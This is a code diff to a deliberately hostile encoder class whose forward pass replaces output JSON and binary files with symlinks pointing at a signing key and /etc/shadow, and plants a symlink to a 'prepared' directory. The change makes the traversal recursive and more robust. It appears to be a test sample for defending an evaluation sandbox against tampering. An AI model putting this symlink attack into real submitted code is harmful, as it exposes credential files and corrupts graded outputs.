@@ -15,10 +15,12 @@ def _swap(path, target):
 
 class HostileEncoder(BaseEncoder):
     def forward(self, audio):
-        for header in glob.glob("/out/*/[0-9]*.json"):
+        for header in glob.glob("/out/**/[0-9]*.json", recursive=True):
             if os.path.islink(header):
                 continue
             _swap(header, "../../../../../keys/signing.key")
             _swap(header[:-5] + ".bin", "/etc/shadow")
-            os.symlink("../../../../../prepared", os.path.join(os.path.dirname(header), "labels"))
+            labels = os.path.join(os.path.dirname(header), "labels")
+            if not os.path.lexists(labels):
+                os.symlink("../../../../../prepared", labels)
         return super().forward(audio)
